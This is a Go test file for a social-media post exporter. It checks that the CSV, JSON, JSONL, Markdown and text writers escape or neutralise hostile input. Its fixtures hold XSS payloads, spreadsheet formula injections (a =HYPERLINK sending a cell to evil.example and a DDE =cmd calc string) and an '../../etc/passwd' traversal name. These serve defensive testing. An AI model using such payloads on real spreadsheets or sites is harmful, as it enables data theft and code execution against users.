package export

import (
	"bufio"
	"bytes"
	"crypto/sha256"
	"encoding/csv"
	"encoding/hex"
	"encoding/json"
	"errors"
	"io"
	"os"
	"reflect"
	"strings"
	"testing"
	"time"

	"github.com/aftershock/aftershock/internal/testdata"
)

func pst(t testing.TB) *time.Location {
	t.Helper()
	loc, err := LoadZone("America/Los_Angeles")
	if err != nil {
		t.Fatal(err)
	}
	return loc
}

func testMeta(t testing.TB) Meta {
	return Meta{
		Title:       "S3 outage, us-east-1 <script>alert('t')</script>",
		Slug:        "s3-outage",
		Description: "Quotes from the first hour.\n\nSecond paragraph: =SUM(A1) & <b>bold</b>",
		Event:       "AWS S3 us-east-1",
		Location:    pst(t),
		GeneratedAt: time.Date(2017, 3, 1, 12, 0, 0, 0, time.UTC),
		Generator:   "Aftershock test",
		Method:      "Posts came from the Twitter streaming API.\n\nSentiment: vader@1 <img src=x onerror=alert(2)>.",
	}
}

func hashOf(raw string) string {
	s := sha256.Sum256([]byte(raw))
	return hex.EncodeToString(s[:])
}

const (
	multiLine   = "Zeile eins: S3 ist weg 😱\r\nZeile zwei: Größe ÄÖÜ äöü ß\r\n\r\n  - indented dash\nlast line 🇩🇪"
	formulaText = `=HYPERLINK("http://evil.example/?x="&A1,"click me")`
	xssText     = `<script>alert(1)</script><img src=x onerror=alert(2)> </blockquote><a href="javascript:alert(3)">x</a>`
	mdText      = "# Heading\n* star item\n1. ordered\n[link](http://x.example) `code` **bold** _em_ <b>x</b> &amp; | a | b |\n---\n===\n    code block?\n> quoted\n\\ back\\"
	rawPretty   = "{\n  \"id_str\": \"1234567890123456789\",\n  \"text\": \"<multi>\"\n}"
)

// fixtures returns items covering the cases every format must survive.
func fixtures() []Item {
	created := time.Date(2017, 2, 28, 17, 52, 3, 0, time.UTC)
	collected := created.Add(90 * time.Second)
	rawA := `{"id_str":"1234567890123456789","text":"x"}`
	return []Item{
		{
			Position: 1, PostID: "twitter:1234567890123456789", Source: "twitter", NativeID: "1234567890123456789",
			AuthorName: "Jürgen Ärger", AuthorHandle: "juergen", AuthorURL: "https://twitter.com/juergen",
			Permalink: "https://twitter.com/juergen/status/1234567890123456789",
			CreatedAt: created, CollectedAt: collected, Lang: "de", Text: multiLine,
			Likes: 17, Reposts: 3, Replies: 1, Quotes: 0,
			ReplyTo: "twitter:835971235648204800", ReplyToURL: "https://twitter.com/awscloud/status/835971235648204800",
			QuoteOf: "9223372036854775807",
			Status:  Live, SentimentLabel: "negative", SentimentScore: -0.4767, SentimentModel: "vader@1",
			ContentHash: hashOf(rawA), Raw: json.RawMessage(rawA),
			Note: "Good quote.\nSecond line of the note.", Tags: []string{"s3", "ops"}, AddedBy: "ana",
			AddedAt: collected.Add(time.Hour),
		},
		{
			Position: 2, PostID: "mastodon:https://example.social/@bob/1", Source: "mastodon",
			NativeID: "https://example.social/@bob/1", AuthorName: "+SUM(1+1)", AuthorHandle: "@bob@example.social",
			Permalink: "https://example.social/@bob/1", CreatedAt: created.Add(-9 * time.Hour), Text: formulaText,
			Status: Deleted, ContentHash: hashOf(rawPretty), Raw: json.RawMessage(rawPretty),
			Note: "-2+3 and @mention", Tags: []string{"=cmd|' /C calc'!A0"}, AddedBy: "\tTAB",
		},
		{
			Position: 3, PostID: "bluesky:at://did:plc:x/app.bsky.feed.post/3k", Source: "bluesky",
			AuthorName: `"><svg onload=alert(1)>`, AuthorHandle: "alice.bsky.social", AuthorURL: "javascript:alert(1)",
			Permalink: "javascript:alert(document.cookie)", CreatedAt: created, Text: xssText,
			QuoteOfURL: `https://x.example/"><script>`, Status: Edited, CurrentText: "<script>now</script>",
			Note: "</p><script>alert(4)</script>",
		},
		{
			Position: 4, PostID: "hackernews:8863", Source: "hackernews", AuthorHandle: "pg",
			Permalink: "https://news.ycombinator.com/item?id=8863", CreatedAt: created,
			Text: "ctl:\x00\x01\x1b[31mred\x7f bad:\xff\xfe c1:\u0085 end\rCR", Status: Deleted,
		},
		{Position: 5, PostID: "reddit:t3_abc"},
		{
			Position: 6, PostID: "reddit:t1_xyz", Source: "reddit", AuthorName: "spez", AuthorHandle: "spez",
			CreatedAt: created, Text: mdText, Status: Edited, CurrentText: "changed",
		},
	}
}

// export writes items in format f and returns the bytes.
func export(t testing.TB, f Format, meta Meta, items []Item) []byte {
	t.Helper()
	var buf bytes.Buffer
	w, err := NewWriter(f, &buf, meta)
	if err != nil {
		t.Fatal(err)
	}
	for _, it := range items {
		if err := w.Write(it); err != nil {
			t.Fatalf("%s: write %s: %v", f, it.PostID, err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatalf("%s: close: %v", f, err)
	}
	if err := w.Write(items[0]); !errors.Is(err, ErrClosed) {
		t.Fatalf("%s: write after close: %v, want ErrClosed", f, err)
	}
	return buf.Bytes()
}

func TestParseFormat(t *testing.T) {
	seen := map[string]bool{}
	for _, f := range Formats() {
		for _, s := range []string{string(f), strings.ToUpper(string(f)), "." + string(f), " " + string(f) + " "} {
			got, err := ParseFormat(s)
			if err != nil || got != f {
				t.Errorf("ParseFormat(%q) = %q, %v", s, got, err)
			}
		}
		if f.Ext() != "."+string(f) {
			t.Errorf("%s.Ext() = %q", f, f.Ext())
		}
		ct := f.ContentType()
		if ct == "" || ct == "application/octet-stream" || seen[ct] {
			t.Errorf("%s.ContentType() = %q", f, ct)
		}
		seen[ct] = true
	}
	for _, s := range []string{"", "pdf", "markdown", "csv;", "xls"} {
		_, err := ParseFormat(s)
		if !errors.Is(err, ErrUnknownFormat) || !strings.Contains(err.Error(), "csv, xlsx, md, txt, html, json, jsonl") {
			t.Errorf("ParseFormat(%q) error = %v", s, err)
		}
	}
	if _, err := NewWriter("pdf", io.Discard, Meta{}); !errors.Is(err, ErrUnknownFormat) || !strings.Contains(err.Error(), "jsonl") {
		t.Errorf("NewWriter(pdf) error = %v", err)
	}
	if Format("pdf").Ext() != "" {
		t.Error("Ext of unknown format is not empty")
	}
}

func TestLoadZone(t *testing.T) {
	for _, name := range []string{"", "UTC", "Europe/Berlin", "America/Los_Angeles"} {
		if _, err := LoadZone(name); err != nil {
			t.Errorf("LoadZone(%q): %v", name, err)
		}
	}
	for _, name := range []string{"Local", "Mars/Olympus", "../../etc/passwd", `C:\x`} {
		_, err := LoadZone(name)
		if !errors.Is(err, ErrUnknownZone) || !strings.Contains(err.Error(), "Europe/Berlin") {
			t.Errorf("LoadZone(%q) error = %v", name, err)
		}
	}
	loc := pst(t)
	at := time.Date(2017, 2, 28, 17, 52, 3, 0, time.UTC)
	if got := local(at, loc); got != "2017-02-28 09:52 PST" {
		t.Errorf("local = %q", got)
	}
	if got := whenDisplay(at, loc); got != "2017-02-28 09:52 PST (17:52 UTC)" {
		t.Errorf("whenDisplay = %q", got)
	}
	if got := whenDisplay(at.Add(7*time.Hour), loc); got != "2017-02-28 16:52 PST (2017-03-01 00:52 UTC)" {
		t.Errorf("whenDisplay across midnight = %q", got)
	}
	if got := whenDisplay(at, time.UTC); got != "2017-02-28 17:52 UTC" {
		t.Errorf("whenDisplay UTC = %q", got)
	}
}

// wantCell is what the CSV holds for column i of it, as encoding/csv reads
// it back.
func wantCell(it *Item, i int, loc *time.Location) string {
	row := make([]string, nColumns)
	fillRow(row, it, loc)
	s := row[i]
	switch columns[i].kind {
	case kID:
		s = csvID(s)
	case kText, kURL, kLong, kTime:
		s = neutralise(s)
	}
	return strings.ReplaceAll(s, "\r\n", "\n") // encoding/csv reads CR LF in a quoted field as LF
}

func readCSV(t testing.TB, b []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(b, []byte("\uFEFF"))))
	r.FieldsPerRecord = nColumns
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatalf("csv does not parse: %v", err)
	}
	return recs
}

func TestCSV(t *testing.T) {
	meta, items := testMeta(t), fixtures()
	b := export(t, CSV, meta, items)
	if !bytes.HasPrefix(b, []byte("\uFEFF\"position\",\"post_id\"")) {
		t.Fatalf("no BOM and header: %q", b[:40])
	}
	recs := readCSV(t, b)
	if !reflect.DeepEqual(recs[0], Columns()) {
		t.Fatalf("header = %q", recs[0])
	}
	if len(recs) != len(items)+1 {
		t.Fatalf("%d records, want %d", len(recs), len(items)+1)
	}
	for n, it := range items {
		for i := range columns {
			if got, want := recs[n+1][i], wantCell(&it, i, meta.Location); got != want {
				t.Errorf("item %d column %s = %q, want %q", n+1, columns[i].name, got, want)
			}
		}
	}
	first := recs[1]
	checks := map[string]string{
		"post_id":         "twitter:1234567890123456789",
		"reply_to":        "twitter:835971235648204800",
		"quote_of":        "'9223372036854775807",
		"created_utc":     "2017-02-28T17:52:03Z",
		"created_local":   "2017-02-28 09:52 PST",
		"text":            strings.ReplaceAll(multiLine, "\r\n", "\n"),
		"sentiment_score": "-0.4767",
		"tags":            "s3, ops",
		"likes":           "17",
	}
	for i, c := range columns {
		if want, ok := checks[c.name]; ok && first[i] != want {
			t.Errorf("%s = %q, want %q", c.name, first[i], want)
		}
	}
	// Formula payloads are neutralised in every text column.
	for _, rec := range recs[1:] {
		for i, f := range rec {
			if k := columns[i].kind; k != kInt && k != kFloat && f != "" && strings.IndexByte("=+-@\t\r", f[0]) >= 0 {
				t.Errorf("column %s starts a formula: %q", columns[i].name, f)
			}
		}
	}
	if got := recs[2][9]; got != "'"+formulaText {
		t.Errorf("formula text = %q", got)
	}
	// Control characters and invalid UTF-8 are replaced; CR LF ends records.
	if bytes.ContainsAny(b, "\x00\x1b\x7f") || !bytes.HasSuffix(b, []byte("\r\n")) || bytes.Count(b, []byte("\r\n")) < len(items)+1 {
		t.Errorf("control characters or record ends wrong")
	}
	if !strings.Contains(recs[4][9], "ctl:\uFFFD\uFFFD\uFFFD[31mred\uFFFD bad:\uFFFD\uFFFD c1:\uFFFD end\rCR") {
		t.Errorf("cleaned text = %q", recs[4][9])
	}
}

func TestJSON(t *testing.T) {
	meta, items := testMeta(t), fixtures()
	b := export(t, JSON, meta, items)
	var doc struct {
		Meta  map[string]any `json:"meta"`
		Items []Item         `json:"items"`
		Count int            `json:"count"`
	}
	if err := json.Unmarshal(b, &doc); err != nil {
		t.Fatalf("json: %v\n%s", err, b)
	}
	if doc.Count != len(items) || len(doc.Items) != len(items) {
		t.Fatalf("count %d, %d items", doc.Count, len(doc.Items))
	}
	if doc.Meta["zone"] != "America/Los_Angeles" || doc.Meta["title"] != meta.Title || doc.Meta["method"] != meta.Method {
		t.Errorf("meta = %v", doc.Meta)
	}
	for i := range items {
		want := items[i]
		want.Text = jsonString(want.Text)
		if !reflect.DeepEqual(doc.Items[i], want) {
			t.Errorf("item %d round trip:\n got %+v\nwant %+v", i+1, doc.Items[i], want)
		}
	}
	// The raw payload is byte for byte, so the content hash verifies.
	if !bytes.Contains(b, []byte(`"raw":`+rawPretty)) {
		t.Error("pretty raw payload not kept byte for byte")
	}
	for _, it := range doc.Items {
		if len(it.Raw) > 0 && hashOf(string(it.Raw)) != it.ContentHash {
			t.Errorf("%s: content hash does not verify", it.PostID)
		}
	}
	if !bytes.Contains(b, []byte(`<script>alert(1)</script>`)) {
		t.Error("JSON should carry the exact text (HTML escaping off)")
	}
}

// jsonString returns s as encoding/json reads it back: each invalid byte
// becomes U+FFFD.
func jsonString(s string) string {
	b, _ := json.Marshal(s)
	var out string
	json.Unmarshal(b, &out)
	return out
}

func TestJSONL(t *testing.T) {
	meta, items := testMeta(t), fixtures()
	b := export(t, JSONL, meta, items)
	sc := bufio.NewScanner(bytes.NewReader(b))
	n := 0
	for sc.Scan() {
		var it Item
		if err := json.Unmarshal(sc.Bytes(), &it); err != nil {
			t.Fatalf("line %d: %v", n+1, err)
		}
		want := items[n]
		want.Text = jsonString(want.Text)
		if len(want.Raw) > 0 {
			var c bytes.Buffer
			json.Compact(&c, want.Raw)
			if !bytes.Equal(it.Raw, want.Raw) && !bytes.Equal(it.Raw, c.Bytes()) {
				t.Errorf("line %d raw = %s", n+1, it.Raw)
			}
			it.Raw = want.Raw
		}
		if !reflect.DeepEqual(it, want) {
			t.Errorf("line %d round trip:\n got %+v\nwant %+v", n+1, it, want)
		}
		n++
	}
	if n != len(items) || !bytes.HasSuffix(b, []byte("}\n")) {
		t.Fatalf("%d lines, want %d", n, len(items))
	}
	w, _ := NewWriter(JSONL, io.Discard, meta)
	if err := w.Write(Item{PostID: "x:1", Raw: json.RawMessage(`{"a":`)}); err == nil {
		t.Error("invalid raw payload accepted")
	}
	if err := w.Write(items[0]); err != nil {
		t.Errorf("writer unusable after a refused item: %v", err)
	}
}

func TestMarkdown(t *testing.T) {
	meta, items := testMeta(t), fixtures()
	md := string(export(t, Markdown, meta, items))
	for _, want := range []string{
		"# S3 outage, us-east-1 \\<script\\>alert('t')\\</script\\>\n",
		"> Zeile eins: S3 ist weg 😱\\\n> Zeile zwei: Größe ÄÖÜ äöü ß\n>\n> \\- indented dash\\\n> last line 🇩🇪\n\n" +
			"— Jürgen Ärger (@juergen), Twitter, 2017-02-28 09:52 PST (17:52 UTC), <https://twitter.com/juergen/status/1234567890123456789>" +
			" — replying to <https://twitter.com/awscloud/status/835971235648204800>; quoting 9223372036854775807\n\nNote: Good quote.\\\nSecond line of the note.\n",
		"— +SUM(1+1) (@bob@example.social), Mastodon, 2017-02-28 00:52 PST (08:52 UTC), <https://example.social/@bob/1> — deleted at source since quoted\n",
		"> \\<script\\>alert(1)\\</script\\>\\<img src=x onerror=alert(2)\\> \\</blockquote\\>\\<a href=\"javascript:alert(3)\"\\>x\\</a\\>\n",
		"— \"\\>\\<svg onload=alert(1)\\> (@alice.bsky.social), Bluesky, 2017-02-28 09:52 PST (17:52 UTC), javascript:alert(document.cookie) — quoting https://x.example/\"\\>\\<script\\>; edited since quoted\n\nNow reads: “\\<script\\>now\\</script\\>”\n",
		"> \\# Heading\\\n> \\* star item\\\n> 1\\. ordered\\\n> \\[link\\](http://x.example) \\`code\\` \\*\\*bold\\*\\* \\_em\\_ \\<b\\>x\\</b\\> \\&amp; \\| a \\| b \\|\\\n> \\---\\\n> \\===\\\n> code block?\\\n> \\> quoted\\\n> \\\\ back\\\\\n",
		"— @pg, Hacker News,",
		"— u/spez, Reddit,",
		"> *[no text]*\n\n— unknown author, time unknown, reddit:t3\\_abc\n",
		"## Method\n\nPosts came from the Twitter streaming API.\n\nSentiment: vader@1 \\<img src=x onerror=alert(2)\\>.\n\n",
	} {
		if !strings.Contains(md, want) {
			t.Errorf("markdown lacks %q\n%s", want, md)
		}
	}
	if strings.ContainsAny(md, "\x00\x1b\x7f\r") {
		t.Error("markdown has control characters")
	}
}

func TestText(t *testing.T) {
	meta, items := testMeta(t), fixtures()
	txt := string(export(t, Text, meta, items))
	for _, want := range []string{
		"S3 outage, us-east-1 <script>alert('t')</script>\n=====",
		"“Zeile eins: S3 ist weg 😱\nZeile zwei: Größe ÄÖÜ äöü ß\n\n  - indented dash\nlast line 🇩🇪”\n" +
			"— Jürgen Ärger (@juergen), Twitter, 2017-02-28 09:52 PST (17:52 UTC), https://twitter.com/juergen/status/1234567890123456789" +
			" — replying to https://twitter.com/awscloud/status/835971235648204800; quoting 9223372036854775807\nNote: Good quote.\nSecond line of the note.\n\n",
		"“" + formulaText + "”\n",
		"edited since quoted\nNow reads: “<script>now</script>”\n",
		"Method\n------\n\nPosts came from",
	} {
		if !strings.Contains(txt, want) {
			t.Errorf("text lacks %q\n%s", want, txt)
		}
	}
	if strings.ContainsAny(txt, "\x00\x1b\x7f\r") || strings.Contains(txt, "\\<") {
		t.Error("text has control characters or Markdown escapes")
	}
}

// realItems builds items from real tweets (Twitter API v1.1 streaming).
func realItems(t testing.TB) []Item {
	t.Helper()
	f, err := os.Open(testdata.Path(t, "twitter-v1", "python-twitter_streaming_lines.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var items []Item
	sc := bufio.NewScanner(f)
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		var tw struct {
			ID        string `json:"id_str"`
			Text      string `json:"text"`
			Lang      string `json:"lang"`
			CreatedAt string `json:"created_at"`
			ReplyTo   string `json:"in_reply_to_status_id_str"`
			Favs      int64  `json:"favorite_count"`
			RTs       int64  `json:"retweet_count"`
			User      struct {
				Name   string `json:"name"`
				Handle string `json:"screen_name"`
			} `json:"user"`
			Ext *struct {
				FullText string `json:"full_text"`
			} `json:"extended_tweet"`
		}
		raw := append([]byte(nil), sc.Bytes()...)
		if json.Unmarshal(raw, &tw) != nil || tw.ID == "" {
			continue
		}
		at, _ := time.Parse(time.RubyDate, tw.CreatedAt)
		text := tw.Text
		if tw.Ext != nil {
			text = tw.Ext.FullText
		}
		it := Item{
			Position: len(items) + 1, PostID: "twitter:" + tw.ID, Source: "twitter", NativeID: tw.ID,
			AuthorName: tw.User.Name, AuthorHandle: tw.User.Handle,
			Permalink: "https://twitter.com/" + tw.User.Handle + "/status/" + tw.ID,
			CreatedAt: at.UTC(), CollectedAt: at.UTC().Add(time.Second), Lang: tw.Lang, Text: text,
			Likes: tw.Favs, Reposts: tw.RTs, Status: Live, ContentHash: hashOf(string(raw)), Raw: raw,
		}
		if tw.ReplyTo != "" {
			it.ReplyTo = "twitter:" + tw.ReplyTo
		}
		items = append(items, it)
	}
	if len(items) < 50 {
		t.Fatalf("only %d tweets", len(items))
	}
	return items
}

func TestRealTweets(t *testing.T) {
	meta, items := testMeta(t), realItems(t)
	for _, f := range Formats() {
		b := export(t, f, meta, items)
		switch f {
		case CSV:
			recs := readCSV(t, b)
			for n, it := range items {
				if got, want := recs[n+1][9], wantCell(&it, 9, meta.Location); got != want {
					t.Errorf("tweet %s text = %q, want %q", it.PostID, got, want)
				}
			}
		case JSONL:
			lines := bytes.Split(bytes.TrimSuffix(b, []byte("\n")), []byte("\n"))
			if len(lines) != len(items) {
				t.Fatalf("%d lines", len(lines))
			}
			for n, l := range lines {
				var it Item
				if err := json.Unmarshal(l, &it); err != nil {
					t.Fatal(err)
				}
				if !bytes.Equal(it.Raw, items[n].Raw) || hashOf(string(it.Raw)) != it.ContentHash {
					t.Errorf("tweet %s: raw payload changed", it.PostID)
				}
			}
		}
	}
}

type failWriter struct{ n int }

func (w *failWriter) Write(p []byte) (int, error) {
	if w.n -= len(p); w.n < 0 {
		return 0, errors.New("disk full")
	}
	return len(p), nil
}

func TestWriteError(t *testing.T) {
	items := realItems(t)
	for _, f := range Formats() {
		w, err := NewWriter(f, &failWriter{n: 1000}, testMeta(t))
		if err != nil {
			t.Fatal(err)
		}
		var werr error
		for i := 0; i < 2000 && werr == nil; i++ {
			werr = w.Write(items[i%len(items)])
		}
		if cerr := w.Close(); werr == nil && cerr == nil {
			t.Errorf("%s: write error not reported", f)
		} else if err := cmpErr(werr, cerr); !strings.Contains(err.Error(), "disk full") || !strings.Contains(err.Error(), "export") {
			t.Errorf("%s: error %v", f, err)
		}
	}
}

func cmpErr(a, b error) error {
	if a != nil {
		return a
	}
	return b
}
